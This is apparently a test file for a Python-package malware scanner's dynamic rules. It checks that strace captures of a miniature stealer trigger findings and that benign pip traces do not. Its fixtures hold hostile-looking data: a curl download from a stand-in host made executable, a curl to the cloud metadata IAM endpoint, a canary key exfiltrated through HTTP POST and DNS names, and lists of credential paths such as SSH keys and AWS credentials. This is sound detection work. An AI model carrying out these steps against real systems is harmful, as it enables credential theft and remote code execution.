/**
 * The new dynamic rules on a real capture (trace/fixtures/probe.strace: a stealer in miniature,
 * recorded by trace/fixtures/scripts/capture.sh) and on real benign pip/import traces.
 */
import { readFileSync } from 'node:fs';
import { parseStrace } from '../trace/strace-parser.js';
import type { TraceEvent } from '../trace/trace-events.js';
import type { SinkholeRecord } from '../sinkhole/sinkhole-record.js';
import { dynamicFindings } from './index.js';
import { findingsFor } from './rules.js';
import { severityAtLeast, type Finding, type Phase } from './finding.js';

const fixture = (name: string): TraceEvent[] => parseStrace(readFileSync(new URL(`../trace/fixtures/${name}`, import.meta.url))).events;
const HOME = '/tmp/pyti-trace-work/scratch/home';
const KEY = 'PYTIFAKEKEYpytifakekey0123456789';
const ctx = { home: '/home/pyti', homeAliases: [HOME], work: '/work', tmp: '/tmp/pyti-trace-work/tmp' };
const bait = { files: [`${HOME}/.ssh/id_rsa`], canaries: [{ id: 'ssh-private-key', value: KEY }] };
const summary = (fs: Finding[]) => fs.map((f) => `${f.rule} ${f.severity}`);

describe('stealer rules on a real capture (probe.strace)', () => {
  const events = fixture('probe.strace');
  const found = dynamicFindings({ traces: new Map<Phase, TraceEvent[]>([['build', events]]), bait }, ctx);

  it('parses the stat family as probes, with errno and resolved paths', () => {
    const probes = events.filter((e) => e.kind === 'file' && e.op === 'probe' && e.path.startsWith(HOME));
    expect(probes.map((e) => e.kind === 'file' && `${e.path.slice(HOME.length)} ${e.ok ? 'ok' : e.errno}`)).toEqual(expect.arrayContaining([
      '/.ssh ok', '/.aws/credentials ENOENT', '/.config/discord/Local Storage/leveldb ENOENT', '/.env ENOENT', '/.ssh/id_rsa ok',
    ]));
    // fstat of an open fd (AT_EMPTY_PATH) is not a probe of a path
    expect(events.some((e) => e.kind === 'file' && e.op === 'probe' && e.path === '')).toBe(false);
  });

  it('sees the sweep, the bait read, the decoder into a shell, inline code, the DNS tool, the dropped script and the chain', () => {
    expect(summary(found)).toEqual(expect.arrayContaining([
      'credential-probe high', 'bait-read high', 'sensitive-read high', 'pipe-to-shell high', 'inline-code medium',
      'dns-tool high', 'download-exec critical', 'secret-exfil-chain critical',
    ]));
    const sweep = found.find((f) => f.rule === 'credential-probe' && f.severity === 'high')!;
    expect(sweep.title).toMatch(/sweeps [4-9] credential places/);
    const chain = found.find((f) => f.rule === 'secret-exfil-chain')!;
    expect(chain.evidence.map((e) => e.summary)).toEqual([`read ${HOME}/.ssh/id_rsa`, 'connect 127.0.0.1:9/tcp (ECONNREFUSED)']);
    expect(found.find((f) => f.rule === 'download-exec')!.title).toContain('stage2.sh');
  });

  it('finds the canary in what the sinkhole recorded and in DNS names, encoded', () => {
    const rec = (over: Partial<SinkholeRecord>): SinkholeRecord => ({ phase: 'build', line: 1, time: 2e9, kind: 'tcp', address: '192.0.2.1', port: 443, bytesSent: 10, ...over });
    const sinkhole = [
      rec({ http: { method: 'POST', host: 'x.invalid', path: '/up', headers: [] }, payloadBase64: Buffer.from(JSON.stringify({ k: Buffer.from(`-----BEGIN-----\n${KEY}\n`).toString('base64') })).toString('base64') }),
      rec({ kind: 'dns', port: 53, dnsName: `${Buffer.from(KEY).toString('hex').slice(0, 40)}.${Buffer.from(KEY).toString('hex').slice(40)}.x.invalid` }),
    ];
    const leaks = dynamicFindings({ traces: new Map(), sinkhole, bait }, ctx).filter((f) => f.rule === 'canary-leak');
    expect(leaks).toHaveLength(2);
    expect(leaks.every((f) => f.severity === 'critical' && f.evidence[0]!.summary.startsWith('sinkhole:'))).toBe(true);
    const dns: TraceEvent = { seq: 1, time: 1, pid: 5, line: 1, kind: 'net', op: 'send', family: 'inet', address: '127.0.0.53', port: 53, protocol: 'udp', ok: true, dns: { name: `${base32(KEY)}.x.invalid`.toLowerCase(), type: 'A' } };
    expect(summary(dynamicFindings({ traces: new Map([['import', [dns]]]), bait }, ctx))).toContain('canary-leak critical');
  });
});

describe('stealer rules stay quiet on benign real traces', () => {
  it('a real in-image pip install and import give nothing above low', () => {
    for (const [name, phase] of [['guest-install.strace', 'install'], ['guest-import.strace', 'import']] as const) {
      const fs = findingsFor(fixture(name), phase, { home: '/work/home', homeAliases: ['/home/pyti'], work: '/work', tmp: '/tmp' });
      expect(fs.filter((f) => severityAtLeast(f.severity, 'medium')).map((f) => f.title)).toEqual([]);
    }
  });

  it('a scan of /etc entry by entry (pip\'s vendored distro) is not a probe of /etc/shadow; a lone probe is', () => {
    const names = ['motd', 'hosts', 'gshadow', 'shadow', 'passwd', 'group', 'fstab', 'hostname', 'issue', 'profile', 'bash.bashrc', 'mime.types', 'login.defs', 'timezone', 'protocols', 'services', 'inputrc'];
    const scan: TraceEvent[] = names.map((n, i) => ({ seq: i, time: 1, pid: 35, line: i + 1, kind: 'file', op: 'probe', path: `/etc/${n}`, ok: true }));
    expect(findingsFor(scan, 'build', ctx).filter((f) => f.rule === 'credential-probe')).toEqual([]);
    expect(summary(findingsFor(scan.slice(3, 4), 'build', ctx))).toEqual(['credential-probe medium']);
  });

  it('build-style python -c and sh -c of a compiler are not inline code or pipes to a shell', () => {
    const ex = (argv: string[]): TraceEvent => ({ seq: 0, time: 1, pid: 3, line: 1, kind: 'exec', path: `/usr/bin/${argv[0]}`, argv, argvTruncated: false, ok: true });
    const fs = findingsFor([
      ex(['python3', '-c', "import io, os, sys, setuptools, tokenize; sys.argv[0] = '/tmp/x/setup.py'; __file__='/tmp/x/setup.py'; exec(compile(code, __file__, 'exec'))"]),
      ex(['python3', '-c', 'import sysconfig; print(sysconfig.get_paths()["include"])']),
      ex(['sh', '-c', 'gcc -v -E - < /dev/null | grep include']),
    ], 'build', ctx);
    expect(fs.filter((f) => ['inline-code', 'pipe-to-shell', 'dns-tool'].includes(f.rule))).toEqual([]);
  });

  it('a linker output run by configure is not download-exec; a curl download run by sh is', () => {
    let seq = 0;
    const ev = (pid: number, body: object): TraceEvent => ({ seq: seq++, time: seq, pid, line: seq, ...body }) as TraceEvent;
    const trace = [
      ev(10, { kind: 'exec', path: '/usr/bin/ld', argv: ['ld', '-o', '/work/b/conftest'], argvTruncated: false, ok: true }),
      ev(10, { kind: 'file', op: 'create', path: '/work/b/conftest', ok: true }),
      ev(11, { kind: 'exec', path: '/work/b/conftest', argv: ['./conftest'], argvTruncated: false, ok: true }),
      ev(20, { kind: 'exec', path: '/usr/bin/curl', argv: ['curl', '-o', '/tmp/x', 'http://x.invalid/x'], argvTruncated: false, ok: true }),
      ev(20, { kind: 'file', op: 'create', path: '/tmp/x', ok: true }),
      ev(21, { kind: 'file', op: 'chmod', path: '/tmp/x', mode: 0o755, ok: true }),
    ];
    const fs = findingsFor(trace, 'build', ctx).filter((f) => f.rule === 'download-exec');
    expect(fs.map((f) => f.title)).toEqual(['build: /tmp/x written by curl (downloaded) is made executable by another process']);
  });

  it('flag the cloud metadata service by address, DNS name and argv', () => {
    const fs = findingsFor([
      { seq: 0, time: 1, pid: 3, line: 1, kind: 'net', op: 'connect', family: 'inet', address: '169.254.169.254', port: 80, ok: false, errno: 'ENETUNREACH' },
      { seq: 1, time: 1, pid: 3, line: 2, kind: 'exec', path: '/usr/bin/curl', argv: ['curl', 'http://169.254.169.254/latest/meta-data/iam/'], argvTruncated: false, ok: false, errno: 'ENOENT' },
    ], 'import', ctx).filter((f) => f.rule === 'cloud-metadata');
    expect(fs.map((f) => f.severity)).toEqual(['high', 'high']);
  });
});

function base32(s: string): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const b of Buffer.from(s)) bits += b.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out;
}
